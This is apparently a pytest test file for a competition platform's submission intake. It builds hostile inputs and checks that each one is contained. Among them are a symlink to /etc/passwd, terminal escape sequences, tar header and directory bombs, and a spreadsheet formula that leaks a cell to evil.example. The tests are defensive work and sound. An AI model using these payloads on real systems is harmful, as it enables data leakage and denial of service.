"""Hostile submissions, archives and plugin text (issue 14: hardened intake, safe output).

Each test builds the hostile input in tmp_path, says in a comment what it achieved on main at
7ad67e8 (checked by running the old arena/plugins/{manifest,submit}.py and
arena/leaderboard/render.py on the same input), and asserts that it is contained now with a
message naming the file and the field, never a traceback.
"""
import csv
import gzip
import io
import json
import re
import shutil
import subprocess
import sys
import tarfile
import zipfile
import zlib
from pathlib import Path

import pytest
from click.testing import CliRunner
from rich.console import Console
from rich.errors import MarkupError

from arena.cli import main
from arena.core import paths
from arena.leaderboard import render, safe_text
from arena.leaderboard.build import build
from arena.plugins.spec import submission_files
from arena.sandbox import SandboxLimits, run_defense_job
from arena.sandbox.jobs import effective_limits
from arena.score.store import ResultsStore
from arena.submissions.manifest import SubmissionError, content_hash, load_manifest, plugin_spec
from arena.submissions.submit import MAX_FILES, submit, unpack
from arena.submissions.validate import synthetic_batches, tiny_model_file, validate

TOML = 'name = "{name}"\ntrack = "{track}"\nentry = "plugin:P"\nauthors = ["t"]\nversion = "1"\n'
ATTACK = ("from arena import Attack\nclass P(Attack):\n"
          "    def run(self, batch, model, budget):\n        return batch.wave\n")


def make_sub(folder: Path, extra_toml: str = "", code: str = ATTACK, name="hostile",
             track="attack") -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "submission.toml").write_text(TOML.format(name=name, track=track) + extra_toml)
    (folder / "plugin.py").write_text(code)
    return folder


@pytest.fixture
def arena_dirs(tmp_path, monkeypatch):
    subs, base = tmp_path / "installed", tmp_path / "baselines"
    monkeypatch.setenv("ARENA_SUBMISSIONS", str(subs))
    monkeypatch.setenv("ARENA_BASELINES", str(base))
    base.mkdir()
    return subs


def assert_clean_cli_error(res, *words):
    """A click error (exit 1, 'Error: ...') or a report; never an uncaught exception."""
    assert res.exit_code != 0
    assert res.exception is None or isinstance(res.exception, SystemExit), res.exception
    assert "Traceback" not in res.output
    for w in words:
        assert w in res.output, res.output


# ------------------------------------------------------------------ TOML
def test_deeply_nested_toml_is_refused_with_its_line(tmp_path):
    # before: tomllib recursed once per '[' and `arena validate` / `arena submit` died with
    # RecursionError (a traceback)
    sub = make_sub(tmp_path / "nested", "x = " + "[" * 5000 + "]" * 5000 + "\n")
    with pytest.raises(SubmissionError, match=r"submission\.toml: line 6: arrays or tables nested "
                                              r"deeper than 4 levels"):
        load_manifest(sub)
    res = CliRunner().invoke(main, ["validate", str(sub), "--json"])
    assert res.exit_code == 1 and isinstance(res.exception, (SystemExit, type(None)))
    assert "nested deeper" in json.loads(res.output)["errors"][0]
    # brackets inside strings and comments are not nesting
    ok = make_sub(tmp_path / "ok", 'description = "[[[[[[[[ \\" ]]]] {{{{"  # [[[[[[[[\n')
    assert load_manifest(ok).description.startswith("[[[[[[[[")


def test_huge_and_odd_toml_values_name_the_field(tmp_path):
    # before: a 5,000-digit integer raised ValueError out of tomllib (a traceback)
    sub = make_sub(tmp_path / "digits", "[limits]\nwall_s = " + "9" * 5000 + "\n")
    with pytest.raises(SubmissionError, match=r"submission\.toml: not valid TOML: .*4300"):
        load_manifest(sub)
    big = make_sub(tmp_path / "big", "description = '" + "x" * (70 * 1024) + "'\n")
    with pytest.raises(SubmissionError, match=r"submission\.toml: is \d+ bytes, more than 64 KiB"):
        load_manifest(big)
    (big / "submission.toml").write_bytes(b'name = "\xff"\n')
    with pytest.raises(SubmissionError, match=r"submission\.toml: not UTF-8"):
        load_manifest(big)
    for extra, words in [("version = 1979-05-27\n", "field 'version' must be a string"),
                         ('authors = [["nested"]]\n', "field 'authors' entry 0 must be a string"),
                         ("limits = [1]\n", "field 'limits' must be a table")]:
        text = TOML.format(name="odd", track="attack")
        key = extra.split(" ")[0]
        text = "\n".join(ln for ln in text.splitlines() if not ln.startswith(key)) + "\n" + extra
        (big / "submission.toml").write_text(text)
        (big / "plugin.py").write_text(ATTACK)
        with pytest.raises(SubmissionError, match=r"submission\.toml: " + re.escape(words)):
            load_manifest(big)


@pytest.mark.parametrize("value,words", [
    ("nan", "key 'wall_s' must be a finite number above 0"),
    ("inf", "key 'wall_s' must be a finite number above 0"),
    ("-inf", "key 'wall_s' must be a finite number above 0"),
    ("1e300", "key 'wall_s' must be a finite number above 0 and at most 1000000000"),
    ("true", "key 'wall_s' must be a number (got True)"),
    ('"60"', "key 'wall_s' must be a number (got '60')"),
])
def test_nan_and_inf_limits_are_refused(tmp_path, value, words):
    sub = make_sub(tmp_path / "lim", f"[limits]\nwall_s = {value}\n")
    with pytest.raises(SubmissionError, match=r"submission\.toml: field 'limits' " + re.escape(words)):
        load_manifest(sub)


def test_nan_integer_limit_would_have_crashed_the_sandbox(tmp_path):
    # before: `memory_mb = nan` passed the manifest check (nan <= 0 is False) and the sandbox
    # then died in int(nan) with a ValueError traceback, as it still would if it got one
    with pytest.raises(ValueError):
        effective_limits(SandboxLimits(), {"memory_mb": float("nan")})
    sub = make_sub(tmp_path / "lim", "[limits]\nmemory_mb = nan\n")
    with pytest.raises(SubmissionError,
                       match=r"field 'limits' key 'memory_mb' must be an integer \(got nan\)"):
        load_manifest(sub)
    (sub / "submission.toml").write_text(TOML.format(name="lim", track="attack")
                                         + "[limits]\nmax_procs = 1.5\n")
    with pytest.raises(SubmissionError, match=r"key 'max_procs' must be an integer \(got 1\.5\)"):
        load_manifest(sub)
    report = validate(sub, wall_s=30)
    assert not report.ok and "max_procs" in report.errors[0]


# ------------------------------------------------------------------ names and text fields
@pytest.mark.parametrize("toml_line,field", [
    ('name = "real-name\\n"', "name"),          # a second row next to the real one
    ('name = "real-name\\r"', "name"),
    ('entry = "plugin:P\\n"', "entry"),
    ('version = "1\\u001b[2J"', "version"),     # clears the terminal
    ('authors = ["Ada\\u001b]0;pwned\\u0007"]', "authors"),
    ('description = "a\\u202ebackwards"', "description"),  # bidi override
    ('description = "two\\nlines"', "description"),
])
def test_names_full_match_and_text_fields_refuse_control_characters(tmp_path, toml_line, field):
    # before: the name regex was ^...$ used with match(): "$" also matches before a trailing
    # newline, so "real-name\n" passed and printed as a second leaderboard row
    assert re.match(r"^[a-z0-9][a-z0-9-]{1,39}$", "real-name\n")
    key = toml_line.split(" ")[0]
    sub = make_sub(tmp_path / "n")
    text = "\n".join(ln for ln in TOML.format(name="n-ok", track="attack").splitlines()
                     if not ln.startswith(key + " ")) + "\n" + toml_line + "\n"
    (sub / "submission.toml").write_text(text)
    with pytest.raises(SubmissionError, match=rf"submission\.toml: field '{field}'"):
        load_manifest(sub)


# ------------------------------------------------------------------ symlinks and special files
def test_symlinked_manifest_is_not_followed(tmp_path, arena_dirs):
    # before: load_manifest followed the link and accepted whatever TOML it pointed to
    # (here a file outside the submission, naming another competitor)
    outside = tmp_path / "elsewhere.toml"
    outside.write_text(TOML.format(name="someone-else", track="attack"))
    sub = make_sub(tmp_path / "sym")
    (sub / "submission.toml").unlink()
    (sub / "submission.toml").symlink_to(outside)
    with pytest.raises(SubmissionError, match=r"submission\.toml: is a symlink; refused"):
        load_manifest(sub)
    assert "is a symlink" in validate(sub, wall_s=30).errors[0]
    res = CliRunner().invoke(main, ["submit", str(sub)])
    assert_clean_cli_error(res, "submission.toml", "symlink")
    assert not arena_dirs.exists() or not any(arena_dirs.iterdir())


def test_symlinks_anywhere_in_a_submission_are_refused(tmp_path):
    # before: a symlink next to the code was copied into the sandbox as a link, and
    # content_hash hashed its target text, not what the plugin would read through it
    sub = make_sub(tmp_path / "deep")
    (sub / "pkg" / "data").mkdir(parents=True)
    (sub / "pkg" / "data" / "weights.bin").symlink_to("/etc/passwd")
    for call in (load_manifest, content_hash, submission_files):
        with pytest.raises(ValueError, match=r"pkg/data/weights\.bin: is a symlink; refused"):
            call(sub)
    report = validate(sub, wall_s=30)
    assert not report.ok and "pkg/data/weights.bin: is a symlink" in report.errors[0]
    (sub / "pkg" / "data" / "weights.bin").unlink()
    import os
    os.mkfifo(sub / "pkg" / "pipe")
    with pytest.raises(SubmissionError, match=r"pkg/pipe: is a device, fifo"):
        load_manifest(sub)


def test_directories_count_toward_the_limit_in_a_folder(tmp_path):
    sub = make_sub(tmp_path / "many")
    for i in range(MAX_FILES):
        (sub / f"d{i}").mkdir()
    with pytest.raises(SubmissionError, match=r"more than 2000 files and folders \(folders count\)"):
        load_manifest(sub)


# ------------------------------------------------------------------ archives
def _tar_with(path: Path, plain: Path, extra):
    with tarfile.open(path, "w:gz") as t:
        for f in ("submission.toml", "plugin.py"):
            t.add(plain / f, arcname=f)
        for info in extra:
            t.addfile(info)
    return path


def test_tar_with_20000_directories_is_refused(tmp_path, arena_dirs):
    # before: only regular files were counted, so 20,000 directories (94 kB of .tar.gz)
    # unpacked to 20,002 entries under the 2,000-file limit
    plain = make_sub(tmp_path / "plain")
    dirs = []
    for i in range(20_000):
        ti = tarfile.TarInfo(f"d{i}")
        ti.type = tarfile.DIRTYPE
        dirs.append(ti)
    archive = _tar_with(tmp_path / "dirs.tar.gz", plain, dirs)
    with pytest.raises(SubmissionError, match=r"more than 2000 files and folders \(folders count\)"):
        unpack(archive, tmp_path / "out")
    assert sum(1 for _ in (tmp_path / "out").iterdir()) <= MAX_FILES + 1
    # folders a path only implies count too: 1,500 files each in its own folder
    implied = []
    for i in range(1500):
        ti = tarfile.TarInfo(f"d{i}/x.py")
        implied.append(ti)
    archive = _tar_with(tmp_path / "implied.tar.gz", plain, implied)
    with pytest.raises(SubmissionError, match="folders count"):
        unpack(archive, tmp_path / "out2")
    res = CliRunner().invoke(main, ["submit", str(tmp_path / "dirs.tar.gz")])
    assert_clean_cli_error(res, "folders count")


def _header_bomb(path: Path, stated: int) -> Path:
    """A .tar.gz whose first header is a GNU long name stating `stated` bytes of zeros: one
    gzip member per MiB of zeros (gzip readers join members), ~1 kB each."""
    head = tarfile.TarInfo("././@LongLink")
    head.type, head.size = tarfile.GNUTYPE_LONGNAME, stated
    mib = zlib.compressobj(9, zlib.DEFLATED, 31)
    zeros = mib.compress(b"\0" * (1 << 20)) + mib.flush()
    with open(path, "wb") as f:
        f.write(gzip.compress(head.tobuf(format=tarfile.GNU_FORMAT)))
        for _ in range(stated >> 20):
            f.write(zeros)
        f.write(gzip.compress(b"\0" * 1024))
    return path


PEAK = """
import resource, sys
from arena.submissions.submit import unpack, SubmissionError
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
try:
    unpack(sys.argv[1], sys.argv[2])
    print("accepted")
except SubmissionError as e:
    print("refused:", e)
print("grew_mb", (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) // 1024)
"""


def test_tar_header_bomb_keeps_memory_bounded(tmp_path):
    # before: tarfile read the long-name header whole, so this 1 MB archive made
    # `arena submit` allocate 1 GB (peak RSS 1,058 MB, then "archive member '' has an empty
    # path"); now the header read is refused before it happens
    bomb = _header_bomb(tmp_path / "bomb.tar.gz", 1 << 30)
    assert bomb.stat().st_size < 2 << 20
    out = subprocess.run([sys.executable, "-c", PEAK, str(bomb), str(tmp_path / "out")],
                         capture_output=True, text=True, timeout=300)
    assert out.returncode == 0, out.stderr
    assert "refused: bomb.tar.gz: an archive header asks for 1073741824 bytes, more than 64 KiB" in out.stdout
    grew = int(out.stdout.split("grew_mb")[1])
    assert grew < 64, out.stdout


def test_chained_pax_headers_are_capped(tmp_path):
    # before: tarfile followed 400 chained pax headers recursively: RecursionError traceback
    raw = io.BytesIO()
    for i in range(400):
        pax = tarfile.TarInfo(f"p{i}")
        pax.type = tarfile.XHDTYPE
        body = b"30 comment=" + b"x" * 18 + b"\n"
        pax.size = len(body)
        raw.write(pax.tobuf(format=tarfile.USTAR_FORMAT) + body + b"\0" * (512 - len(body)))
    raw.write(b"\0" * 1024)
    archive = tmp_path / "chain.tar"
    archive.write_bytes(raw.getvalue())
    with pytest.raises(SubmissionError, match=r"chain\.tar: the headers of one archive member take "
                                              r"more than 64 KiB|chained too deeply"):
        unpack(archive, tmp_path / "out")


def test_tar_of_a_folder_made_with_dot_unpacks(tmp_path, arena_dirs):
    # `tar -C folder -czf sub.tgz .` writes a "./" member: the folder itself, not a hazard
    src = make_sub(tmp_path / "src", name="dotted")
    archive = tmp_path / "dot.tgz"
    with tarfile.open(archive, "w:gz") as t:
        t.add(src, arcname=".")
    assert (unpack(archive, tmp_path / "out") / "submission.toml").is_file()


def _dot_entries(path: Path, count: int, name: str = "./") -> Path:
    """A .tar.gz of `count` copies of one folder entry (a few bytes each, gzipped)."""
    one = tarfile.TarInfo(name)
    one.type, one.mode = tarfile.DIRTYPE, 0o755
    block = one.tobuf(format=tarfile.USTAR_FORMAT)
    with gzip.open(path, "wb", compresslevel=9) as g:
        for _ in range(count // 10_000):
            g.write(block * 10_000)
        g.write(block * (count % 10_000) + b"\0" * 1024)
    return path


def test_repeated_folder_entries_count_against_the_limit(tmp_path, arena_dirs):
    # before: "./" entries were skipped before being counted and a repeated "d/" counted
    # once, while tarfile kept every header in memory: 1.6 M "./" entries (3.5 MB) were
    # accepted after 60 s and 600 MB; the 200,000 here were accepted too (RSS grew 20 MB).
    # Now every member counts and the 2,003rd is refused
    bomb = _dot_entries(tmp_path / "dots.tar.gz", 200_000)
    out = subprocess.run([sys.executable, "-c", PEAK, str(bomb), str(tmp_path / "out")],
                         capture_output=True, text=True, timeout=300)
    assert out.returncode == 0, out.stderr
    assert ("refused: dots.tar.gz: archive has more than 2002 members (the limit is 2000 "
            "files and folders") in out.stdout, out.stdout
    assert int(out.stdout.split("grew_mb")[1]) < 64, out.stdout
    with pytest.raises(SubmissionError, match=r"dirs\.tar\.gz: archive has more than 2002 members"):
        unpack(_dot_entries(tmp_path / "dirs.tar.gz", 5000, "d/"), tmp_path / "out2")
    res = CliRunner().invoke(main, ["submit", str(bomb)])
    assert_clean_cli_error(res, "dots.tar.gz", "more than 2002 members")
    # the most a real archive holds: "./", one top folder and 2,000 entries under it
    src = make_sub(tmp_path / "full" / "top")
    for i in range(MAX_FILES - 2):
        (src / f"f{i}").write_bytes(b"")
    full = tmp_path / "full.tgz"
    with tarfile.open(full, "w:gz") as t:
        t.add(tmp_path / "full", arcname=".")
    assert len(submission_files(unpack(full, tmp_path / "out3"))) == MAX_FILES


def test_encrypted_zip_member_is_refused(tmp_path, arena_dirs):
    # before: zipfile raised RuntimeError ("password required"), uncaught: a traceback
    make_sub(tmp_path / "plain")
    archive = tmp_path / "locked.zip"
    with zipfile.ZipFile(archive, "w") as z:
        z.write(tmp_path / "plain" / "submission.toml", "submission.toml")
        z.write(tmp_path / "plain" / "plugin.py", "plugin.py")
    raw = bytearray(archive.read_bytes())
    at = raw.find(b"PK\x01\x02", raw.find(b"PK\x01\x02") + 4)   # plugin.py's directory entry
    raw[at + 8] |= 1                                             # "encrypted"
    archive.write_bytes(bytes(raw))
    with pytest.raises(SubmissionError, match=r"locked\.zip: archive member 'plugin\.py' is "
                                              r"encrypted; refused"):
        unpack(archive, tmp_path / "out")
    res = CliRunner().invoke(main, ["submit", str(archive)])
    assert_clean_cli_error(res, "locked.zip", "'plugin.py' is encrypted")


def _three_member_tar(path: Path, mode: str) -> bytes:
    with tarfile.open(path, mode) as t:
        for name, size in (("submission.toml", 100), ("plugin.py", 3000), ("weights.bin", 20000)):
            info = tarfile.TarInfo(name)
            info.size = size
            t.addfile(info, io.BytesIO(b"x" * size))
    return path.read_bytes()


def test_truncated_or_corrupt_tar_is_refused(tmp_path):
    # before: tarfile stops quietly at a missing or unreadable header, so these unpacked
    # "OK" with plugin.py or weights.bin missing
    whole = _three_member_tar(tmp_path / "t.tar", "w")
    bad = tmp_path / "bad.tar"
    end_of_plugin = 512 + 512 + 512 + 3072       # headers and padded data of two members
    end_of_weights = end_of_plugin + 512 + 20480
    cases = {
        "cut after a member": (whole[:end_of_plugin], "truncated"),
        "cut before the end marker": (whole[:end_of_weights], "truncated"),
        "cut inside the end marker": (whole[:end_of_weights + 100], "truncated"),
        "bad 2nd header": (whole[:1024 + 148] + bytes([whole[1024 + 148] ^ 0x55])
                           + whole[1024 + 149:], "unreadable member header"),
        "data after the end": (whole + b"junk" + b"\0" * 508, "after the end-of-archive marker"),
        "two archives": (whole + whole, "after the end-of-archive marker"),
    }
    for label, (data, words) in cases.items():
        bad.write_bytes(data)
        with pytest.raises(SubmissionError, match=r"bad\.tar: .*" + words):
            unpack(bad, tmp_path / label)
    # compressed: cut at a member boundary of the tar inside, every gzip trailer intact
    gz = tmp_path / "bad.tar.gz"
    gz.write_bytes(gzip.compress(whole[:end_of_plugin]))
    with pytest.raises(SubmissionError, match=r"bad\.tar\.gz: .*truncated"):
        unpack(gz, tmp_path / "gz1")
    # a gzip stream that is itself cut short (its CRC trailer gone) is refused too
    gz.write_bytes(gzip.compress(whole)[:-10])
    with pytest.raises(SubmissionError, match=r"bad\.tar\.gz: not a readable archive"):
        unpack(gz, tmp_path / "gz2")


def test_ordinary_tars_still_unpack(tmp_path):
    src = make_sub(tmp_path / "src" / "sub")
    (src / "pkg").mkdir()
    (src / "pkg" / "w.bin").write_bytes(bytes(range(256)) * 40)
    made = []
    for mode, ext in (("w", "tar"), ("w:gz", "tar.gz"), ("w:bz2", "tar.bz2")):
        for fmt in (tarfile.USTAR_FORMAT, tarfile.GNU_FORMAT, tarfile.PAX_FORMAT):
            p = tmp_path / f"py{fmt}.{ext}"
            with tarfile.open(p, mode, format=fmt) as t:
                t.add(src, arcname="sub")
            made.append(p)
    _three_member_tar(tmp_path / "three.tar", "w")
    made.append(tmp_path / "three.tar")
    if shutil.which("tar"):
        for flags, ext in (("czf", "tgz"), ("cf", "tar"), ("cjf", "tar.bz2")):
            for where, arg in ((tmp_path / "src", "sub"), (src, ".")):
                p = tmp_path / f"gnu-{flags}-{arg.strip('.') or 'dot'}.{ext}"
                subprocess.run(["tar", "-C", str(where), f"-{flags}", str(p), arg], check=True)
                made.append(p)
        p = tmp_path / "gnu-b128.tar"   # a large blocking factor: 64 KiB of end padding
        subprocess.run(["tar", "-C", str(tmp_path / "src"), "-b", "128", "-cf", str(p), "sub"],
                       check=True)
        made.append(p)
    for i, p in enumerate(made):
        out = unpack(p, tmp_path / f"out{i}")
        want = 3 if p.name == "three.tar" else 40 * 256
        got = (out / "weights.bin") if p.name == "three.tar" else (out / "pkg" / "w.bin")
        assert got.is_file() and (p.name == "three.tar" or got.stat().st_size == want), p.name


def test_install_drops_only_the_top_level_record(tmp_path, arena_dirs):
    # before: copytree's ignore_patterns dropped every file named SUBMISSION.json, so
    # pkg/SUBMISSION.json was validated and hashed but missing once installed
    sub = make_sub(tmp_path / "rec", name="rec-nested")
    (sub / "pkg").mkdir()
    (sub / "pkg" / "SUBMISSION.json").write_text('{"tuning": 1}')
    (sub / "SUBMISSION.json").write_text('{"source": "/host/path"}')
    record = submit(sub)
    installed = arena_dirs / "rec-nested"
    assert (installed / "pkg" / "SUBMISSION.json").read_text() == '{"tuning": 1}'
    assert json.loads((installed / "SUBMISSION.json").read_text())["name"] == "rec-nested"
    assert record["content_hash"] == content_hash(sub) == content_hash(installed)
    assert sorted(f.rel for f in submission_files(installed)) == sorted(
        f.rel for f in submission_files(sub))


# ------------------------------------------------------------------ the content hash
LISTING = '''
import os
from arena import Defense
HERE = os.path.dirname(os.path.abspath(__file__))
class P(Defense):
    def transcribe(self, batch, model):
        seen = []
        for root, dirs, files in os.walk(HERE):
            rel = os.path.relpath(root, HERE)
            for n in dirs:
                seen.append(os.path.normpath(os.path.join(rel, n)) + "/")
            for n in files:
                seen.append(os.path.normpath(os.path.join(rel, n)))
        extra = open(os.path.join(HERE, "tuning.pyo")).read().strip()
        return [extra + " " + " ".join(sorted(seen))] * len(batch.ids)
'''


def test_hash_covers_exactly_the_files_the_sandbox_gets(tmp_path):
    # before: content_hash skipped *.pyo while the sandbox copy included them, so editing
    # tuning.pyo changed what this defense answers without changing its content hash (the
    # scorer reused the old cells); SUBMISSION.json was copied in but not hashed
    sub = make_sub(tmp_path / "pyo", code=LISTING, name="pyo-reader", track="defense")
    (sub / "tuning.pyo").write_text("alpha")
    (sub / "pkg" / "empty").mkdir(parents=True)
    (sub / "pkg" / "w.bin").write_bytes(b"\1\2")
    (sub / "__pycache__").mkdir()
    (sub / "__pycache__" / "plugin.cpython-311.pyc").write_bytes(b"stale bytecode")
    (sub / "sourceless.pyc").write_bytes(b"importable without a .py")
    (sub / "SUBMISSION.json").write_text('{"source": "/host/path"}')
    batches = synthetic_batches()[:1]
    model = tiny_model_file(tmp_path)

    def run():
        r = run_defense_job(plugin_spec(sub), model, batches, limits=SandboxLimits(wall_s=60))
        assert r.status == "ok", r.error
        return r.batches[0].transcripts[0]

    def hashed_list():
        return " ".join(sorted(f.rel + ("/" if f.is_dir else "") for f in submission_files(sub)))

    h1, out1 = content_hash(sub), run()
    assert hashed_list() == "pkg/ pkg/empty/ pkg/w.bin plugin.py submission.toml tuning.pyo"
    assert out1 == "alpha " + hashed_list()   # the sandbox saw exactly the hashed list
    (sub / "tuning.pyo").write_text("omega")
    h2, out2 = content_hash(sub), run()
    assert out2 == "omega " + hashed_list() and h2 != h1   # behaviour changed: so did the hash
    (sub / "pkg" / "empty" / "again").mkdir()    # an empty folder is visible: hashed too
    h3 = content_hash(sub)
    assert h3 != h2 and run() == "omega " + hashed_list()
    (sub / "__pycache__" / "plugin.cpython-311.pyc").write_bytes(b"other")  # never copied
    (sub / "SUBMISSION.json").write_text("{}")                              # nor this
    assert content_hash(sub) == h3


# ------------------------------------------------------------------ output
HOSTILE_ERROR = ("boom [/] [bold red]x \x1b[2J\x1b]0;pwned\x07\r\u202eevil "
                 f"{paths.PACKAGE}/sandbox/worker.py")
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"click")'


def _store_with_hostile_cells(root: Path) -> ResultsStore:
    store = ResultsStore(root)
    m = dict(ids=["u1"], word_edits=[1], words=[4], char_edits=[2], chars=[16], track="attack",
             attack_error=HOSTILE_ERROR)
    axes = dict(model="dense", split="dev", seed_tag="t", profile="quick")
    store.put("c1", "clean", dict(m, word_edits=[0], attack_error=None), defense="none", **axes)
    store.put("d1", "defense", m, error=FORMULA, attack="noise", budget="snr30", defense="none", **axes)
    store.put("a1", "attack", {}, error=HOSTILE_ERROR, attack="noise", budget="snr30", **axes)
    store.set_meta("last_run", {"profile": "quick", "split": "dev", "seed_tag": "t",
                                "problems": [f"{paths.ROOT}/submissions/x: <b>bad</b> [/]"]})
    return store


def test_terminal_table_shows_markup_and_escapes_as_text(tmp_path):
    # before: the error was printed as rich markup: "[/]" raised MarkupError, so
    # `arena leaderboard` crashed for as long as the cell existed; ESC sequences reached the
    # terminal raw (here: clear screen, retitle the window)
    with pytest.raises(MarkupError):
        Console(file=io.StringIO()).print(f"[red]not scored[/red]: {HOSTILE_ERROR}")
    _store_with_hostile_cells(tmp_path / "lb")
    res = CliRunner().invoke(main, ["leaderboard", "--store", str(tmp_path / "lb")],
                             env={"COLUMNS": "400"})
    assert res.exit_code == 0, res.output
    out = res.output
    assert "\x1b" not in out and "\x07" not in out and "\r" not in out and "\u202e" not in out
    assert "boom [/] [bold red]x \\x1b[2J\\x1b]0;pwned\\x07\\x0d\\u202eevil" in out
    assert str(paths.PACKAGE) not in out and str(paths.ROOT) not in out
    assert "<checkout>/submissions/x: <b>bad</b> [/]" in out     # not_scored, path redacted


def test_csv_and_html_outputs_are_neutralised(tmp_path):
    # before: cells.csv held the error verbatim, so a spreadsheet opening it ran the formula;
    # the HTML page escaped <> but passed control characters and host paths through
    store = _store_with_hostile_cells(tmp_path / "lb")
    board = build(store.cells(), store.meta())
    render.write_files(board, tmp_path / "out")
    with open(tmp_path / "out" / "cells.csv", newline="") as f:
        rows = list(csv.DictReader(f))
    errors = [r["error"] for r in rows if r["error"]]
    assert errors == ["'" + FORMULA]
    texts = [v for r in rows for v in r.values() if v and not re.fullmatch(r"-?[\d.e+-]+", v)]
    assert texts and all(not v.startswith(safe_text.CSV_TRIGGERS) for v in texts)
    assert all("\x1b" not in v for r in rows for v in r.values())
    page = (tmp_path / "out" / "index.html").read_text()
    assert "<b>bad</b>" not in page and "&lt;b&gt;bad&lt;/b&gt;" in page
    assert "\x1b" not in page and "\\x1b[2J" in page and str(paths.PACKAGE) not in page
    text = render.to_csv(board)
    assert "\x1b" not in text and not re.search(r"(^|,)[=+@]", text, re.M)
    res = CliRunner().invoke(main, ["leaderboard", "--store", str(tmp_path / "lb"), "--csv"])
    assert res.exit_code == 0 and "\x1b" not in res.output


@pytest.mark.parametrize("value,expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "\\x09x"),
    ("fine", "fine"), (-0.5, -0.5), (None, None)])
def test_csv_cell(value, expected):
    assert safe_text.csv_cell(value) == expected


def test_host_paths_become_placeholders():
    text = (f"File \"{paths.PACKAGE}/sandbox/worker.py\", line 3; {paths.ROOT}/submissions/x; "
            f"/tmp/arena-job-ab_12/input; /home/alice/src/p.py; https://x.org/home/page")
    out = safe_text.redact_paths(text)
    assert str(paths.ROOT) not in out and "alice" not in out
    assert '"<arena>/sandbox/worker.py"' in out and "<job>/input" in out
    assert "~/src/p.py" in out and "https://x.org/home/page" in out


def test_an_archive_error_names_no_host_path(tmp_path):
    """A file, then a path under it: refused, and the error reads relative to the archive,
    without the host folder it was unpacking into."""
    archive = tmp_path / "clash.tar"
    with tarfile.open(archive, "w") as t:
        for name, data in (("sub/plugin.py", b"x = 1\n"), ("sub/plugin.py/x.py", b"y = 2\n")):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    dest = tmp_path / "unpacked-here"
    with pytest.raises(SubmissionError) as e:
        unpack(archive, dest)
    assert str(e.value).startswith("clash.tar: ")
    assert "unpacked-here" not in str(e.value) and str(tmp_path) not in str(e.value), str(e.value)
    assert "sub/plugin.py" in str(e.value)


def _tar(path: Path, members) -> Path:
    with tarfile.open(path, "w") as t:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return path


def test_an_archive_listing_a_name_twice_is_refused(tmp_path):
    """A reviewer reading `tar tf` / `unzip -l` (or the first copy) saw harmless code while the
    second copy, written later, was the one installed (main at bd9c1f6: last one won)."""
    tar = _tar(tmp_path / "twice.tar", [("sub/plugin.py", b"x = 1\n"), ("sub/./plugin.py", b"evil\n")])
    with pytest.raises(SubmissionError, match=r"twice\.tar: archive lists 'sub/plugin\.py' more than once"):
        unpack(tar, tmp_path / "t")
    zipped = tmp_path / "twice.zip"
    with zipfile.ZipFile(zipped, "w") as z, pytest.warns(UserWarning, match="Duplicate name"):
        z.writestr("plugin.py", "x = 1\n")
        z.writestr("plugin.py", "evil\n")
    with pytest.raises(SubmissionError, match=r"twice\.zip: archive lists 'plugin\.py' more than once"):
        unpack(zipped, tmp_path / "z")
    # a folder listed twice is harmless and still unpacks; a folder named like a file is not
    ok = _tar(tmp_path / "dirs.tar", [("sub/plugin.py", b"x = 1\n")])
    with tarfile.open(ok, "a") as t:
        t.addfile(_dir_info("sub/pkg"))
        t.addfile(_dir_info("sub/pkg"))
    assert (unpack(ok, tmp_path / "d") / "plugin.py").read_bytes() == b"x = 1\n"
    clash = _tar(tmp_path / "clash.tar", [("pkg", b"x = 1\n")])
    with tarfile.open(clash, "a") as t:
        t.addfile(_dir_info("pkg"))
    with pytest.raises(SubmissionError, match=r"clash\.tar: archive member 'pkg' is both a file and a"):
        unpack(clash, tmp_path / "c")


def _dir_info(name: str) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type = tarfile.DIRTYPE
    return info


@pytest.mark.parametrize("name,why", [
    ("plugin\u2215helper.py", "looks like a path separator"),   # DIVISION SLASH
    ("plugin\uff0fhelper.py", "looks like a path separator"),   # FULLWIDTH SOLIDUS
    ("plugin\\helper.py", "looks like a path separator"),
    ("plugin\u200b.py", "invisible formatting"),                # ZERO WIDTH SPACE
    ("\ufeffplugin.py", "invisible formatting"),                # BYTE ORDER MARK
])
def test_names_that_read_as_another_name_are_refused(tmp_path, name, why):
    """A file listed as 'plugin/helper.py' or 'plugin.py' that is neither (main at bd9c1f6:
    accepted, hashed and installed under the deceptive name)."""
    sub = make_sub(tmp_path / "s")
    (sub / name).write_text("x = 1\n")
    with pytest.raises(SubmissionError, match=why):
        submission_files_checked(sub)
    tar = _tar(tmp_path / "n.tar", [("plugin.py", b"x = 1\n"), (name.replace("\\", "\u2216"), b"y\n")])
    with pytest.raises(SubmissionError, match=r"n\.tar: archive member .*" + why):
        unpack(tar, tmp_path / "u")


@pytest.mark.parametrize("twin", ["Plugin.py", "\uff50lugin.py"])   # case; FULLWIDTH p
def test_two_names_that_read_the_same_are_refused(tmp_path, twin):
    sub = make_sub(tmp_path / "s")
    (sub / twin).write_text("evil = 1\n")
    with pytest.raises(SubmissionError, match=r"read as the same name"):
        submission_files_checked(sub)


def submission_files_checked(folder: Path):
    """The intake's check of a folder (load_manifest walks it through submission_files)."""
    return content_hash(folder)


@pytest.mark.parametrize("swap", ["symlink", "fifo", "gone", "folder-link"])
def test_a_file_swapped_after_it_was_listed_is_never_followed(tmp_path, swap):
    """Every copy of a submission (install, a job's private copy, the sandbox input) copies
    the list submission_files made; a file swapped meanwhile for a link was copied as a link
    and then chmod-ed through it (main at c068cae: the link's target, here a host file,
    became 0644), and a fifo would block the harness on open."""
    import os

    from arena.plugins.spec import SubmissionFilesError, copy_submission

    sub = make_sub(tmp_path / "s")
    (sub / "pkg").mkdir()
    (sub / "pkg" / "key.txt").write_text("public")
    files = submission_files(sub)
    host = tmp_path / "host-secret"
    host.write_text("secret")
    host.chmod(0o600)
    if swap == "folder-link":   # a folder swapped for a link to a host folder holding key.txt
        (tmp_path / "host-dir").mkdir()
